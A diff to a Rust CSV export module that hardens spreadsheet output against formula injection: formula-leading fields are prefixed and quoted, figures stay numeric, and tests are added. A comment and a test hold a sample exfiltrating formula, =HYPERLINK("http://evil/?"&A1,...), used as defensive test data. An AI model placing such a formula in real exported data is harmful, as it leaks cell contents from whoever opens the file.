@@ -2,7 +2,7 @@
 
 use std::fmt::Write;
 
-use ogi_model::Report;
+use ogi_model::{CellValue, Report};
 use rayon::prelude::*;
 use serde::Serialize;
 
@@ -13,12 +13,31 @@ use crate::context::{Entry, Finding, SiteModel};
 /// Downloads beside every report page, and `data/table3.csv`.
 pub(crate) struct Data;
 
-/// A CSV field, quoted when it needs to be.
+/// A CSV field of text, quoted when it needs to be, and safe to open in a spreadsheet.
+///
+/// Excel, WPS and LibreOffice run a cell that begins with `=`, `+`, `-` or `@` (or a tab or
+/// carriage return before one) as a formula, so a body name such as
+/// `=HYPERLINK("http://evil/?"&A1,"x")` would run on the reader's machine. As OWASP
+/// recommends (CSV Injection), such a field is written with a `'` in front and in double
+/// quotes: the spreadsheet shows it as text, `'` included, and nothing runs. Figures are
+/// written by [`number`], so a negative 本年增/减 stays a number.
 fn field(text: &str) -> String {
-    if text.contains([',', '"', '\n', '\r']) {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("\"'{}\"", text.replace('"', "\"\""))
+    } else if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
         text.to_owned()
+    }
+}
+
+/// A CSV field of a figure: written as it is, so a spreadsheet reads a number (a negative
+/// one too); a blank cell stays empty, never 0.
+fn number(value: &CellValue<'_>) -> String {
+    if value.is_blank() {
+        String::new()
+    } else {
+        value.display()
     }
 }
 
@@ -39,11 +58,7 @@ fn report_csv(report: &Report) -> String {
             "{},{},{}",
             field(&cell.path),
             field(&cell.label),
-            field(&if cell.value.is_blank() {
-                String::new()
-            } else {
-                cell.value.display()
-            })
+            number(&cell.value)
         );
     }
     csv
@@ -171,12 +186,33 @@ impl Output for Data {
 
 #[cfg(test)]
 mod tests {
-    use super::field;
+    use super::{field, number};
+    use ogi_model::CellValue;
 
     #[test]
     fn csv_fields_are_quoted_only_when_needed() {
         assert_eq!(field("温泉街道"), "温泉街道");
         assert_eq!(field("a,b"), "\"a,b\"");
         assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
+    }
+
+    #[test]
+    fn formula_like_text_is_neutralised() {
+        assert_eq!(
+            field("=HYPERLINK(\"http://evil/?\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""
+        );
+        for start in ["=", "+", "-", "@", "\t", "\r"] {
+            let text = format!("{start}1+1");
+            assert_eq!(field(&text), format!("\"'{text}\""), "{start:?}");
+        }
+        // Only the first character counts: a name with a hyphen inside is left alone.
+        assert_eq!(field("温泉-街道"), "温泉-街道");
+    }
+
+    #[test]
+    fn figures_stay_numbers() {
+        assert_eq!(number(&CellValue::Count(ogi_model::Count::new(-3))), "-3");
+        assert_eq!(number(&CellValue::Count(None)), "");
     }
 }
